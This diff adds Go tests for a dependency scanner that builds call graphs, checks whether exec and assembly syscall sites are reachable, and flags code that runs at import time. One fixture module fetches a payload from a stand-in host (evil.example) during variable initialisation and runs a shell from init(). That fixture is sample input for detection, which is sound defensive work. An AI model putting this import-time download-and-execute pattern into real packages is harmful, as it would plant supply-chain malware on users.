@@ -0,0 +1,111 @@
+package libs
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestMarkReachable(t *testing.T) {
+	dir := t.TempDir()
+	writeFiles(t, dir, map[string]string{
+		"go.mod": "module example.com/m\n",
+		"m.go": `package m
+
+import "os/exec"
+
+type Runner interface{ Run() }
+
+type safe struct{}
+
+func (safe) Run() { exec.Command("safe").Run() }
+
+// same name, other signatures: do not implement Runner
+type other struct{}
+
+func (other) Run(n int) { exec.Command("other").Run() }
+
+type failing struct{}
+
+func (*failing) Run() error { return exec.Command("failing").Run() }
+
+// implemented in assembly
+func rawSyscall()
+
+func Exported(r Runner) {
+	r.Run()
+	rawSyscall()
+}
+`,
+		"asm.s": `#include "textflag.h"
+
+TEXT ·rawSyscall(SB), NOSPLIT, $0-0
+	SYSCALL
+	RET
+`,
+	})
+
+	graph := NewCallGraph()
+	dep := Dependency{Name: "m", Path: dir, ImportPath: "example.com/m", ModulePath: "example.com/m"}
+	parsers := append(append([]OccurrenceParser(nil), DefaultParsers...), graph)
+	occurrences := AnalyzeDependencies([]Dependency{dep}, 1, parsers...)
+	graph.MarkReachable(occurrences, []string{"example.com/m"}, map[string]bool{"example.com/m": true})
+
+	want := map[string]bool{
+		"safe.Run":       true,
+		"other.Run":      false,
+		"(*failing).Run": false,
+		"rawSyscall":     true,
+	}
+	got := make(map[string]bool)
+	for _, occ := range occurrences {
+		if occ.AttackVector == "exec" || (occ.AttackVector == "assembly" && occ.Kind == "syscall") {
+			got[occ.Function] = occ.Reachable
+		}
+	}
+	for function, reachable := range want {
+		if found, ok := got[function]; !ok {
+			t.Errorf("no occurrence in %s", function)
+		} else if found != reachable {
+			t.Errorf("%s: got reachable %v, want %v", function, found, reachable)
+		}
+	}
+}
+
+func TestImportTimeOccurrences(t *testing.T) {
+	dir := t.TempDir()
+	writeFiles(t, dir, map[string]string{"m.go": `package m
+
+import (
+	"net/http"
+	"os"
+	"os/exec"
+)
+
+var response, _ = download()
+
+func download() (*http.Response, error) { return http.Get("https://evil.example/payload") }
+
+func init() { run() }
+
+func run() { exec.Command("sh").Run() }
+
+func Cleanup() { os.Remove("/tmp/payload") }
+`})
+
+	graph := NewCallGraph()
+	dep := Dependency{Name: "m", Path: dir, ImportPath: "example.com/m", ModulePath: "example.com/m"}
+	AnalyzeDependencies([]Dependency{dep}, 1, graph)
+
+	got := make(map[string]string)
+	for _, occ := range graph.ImportTimeOccurrences() {
+		got[occ.Kind] = strings.Join(occ.CallChain, " -> ")
+	}
+	want := map[string]string{
+		"exec":    "example.com/m.init -> example.com/m.run -> exec.Command",
+		"network": "example.com/m.var response, _ -> example.com/m.download -> http.Get",
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got %v, want %v", got, want)
+	}
+}